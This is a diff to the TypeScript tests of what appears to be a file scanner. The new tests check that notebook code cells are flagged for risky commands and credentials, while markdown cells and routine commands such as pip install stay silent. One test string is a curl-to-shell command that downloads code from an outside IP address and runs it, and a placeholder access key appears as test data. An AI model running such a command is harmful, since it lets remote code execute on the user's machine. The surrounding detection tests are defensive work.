@@ -250,10 +250,35 @@ describe("reading", () => {
     expect(await scan('{"a": 1}\n{"a": }\n', "d.jsonl")).toEqual(["medium analysis/malformed"]);
   });
 
-  test("the cells of a notebook are somebody's text; a credential in them is still one", async () => {
-    const notebook = (source: string) => ({ nbformat: 4, cells: [{ cell_type: "code", source: [source] }] });
-    expect(await scan(notebook("!curl http://203.0.113.7/x | sh"), "n.ipynb")).toEqual([]);
+  test("the code of a notebook is judged as a program that somebody starts, its prose is not", async () => {
+    const notebook = (source: string, type = "code") => ({
+      nbformat: 4,
+      cells: [{ cell_type: type, source: [source] }],
+    });
+    const command = "!curl http://203.0.113.7/x | sh";
+    expect(await scan(notebook(command), "n.ipynb")).toEqual(["medium config/build-command"]);
+    expect(await scan(notebook(command, "markdown"), "n.ipynb")).toEqual([]);
     expect(await scan(notebook("key = 'AKIAQ3EGZ7TWLKVN4R2D'"), "n.ipynb")).toEqual(["medium secrets/credential"]);
+  });
+
+  test("what people do in notebooks every day is silent", async () => {
+    const source = [
+      "%matplotlib inline\n",
+      "import os, subprocess, pickle\n",
+      "!pip install -q transformers && nvidia-smi\n",
+      "files = !ls /content\n",
+      "os.system('wget https://example.org/data.zip && unzip data.zip')\n",
+      "subprocess.run(['bash', 'prepare.sh'])\n",
+      "data = pickle.load(open('data.pkl', 'rb'))\n",
+      "if len(data) > 3:\n",
+      "    !rm data.zip\n",
+      "model?\n",
+    ];
+    const document = {
+      nbformat: 4,
+      cells: [{ cell_type: "code", source, outputs: [{ data: { "image/png": "iVBORw0KGgo=" } }] }],
+    };
+    expect((await scan(document, "n.ipynb")).filter((line) => !/^(?:low|info)/.test(line))).toEqual([]);
   });
 
   test("a vocabulary of a hundred thousand words is read in time", async () => {
